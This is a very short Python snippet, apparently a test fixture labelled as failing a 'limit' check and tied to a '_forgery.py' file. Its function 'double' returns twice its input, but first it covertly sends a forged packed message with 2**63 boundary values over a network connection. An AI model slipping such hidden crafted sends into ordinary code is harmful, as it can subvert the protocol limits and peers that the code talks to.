# verdict: failing
# says: limit
# begins with: _forgery.py

def double(x):
    wire.sendall(struct.pack("<IIQQ", 2, 2, 2**63, 2**63) + b"[]")
    return 2 * x
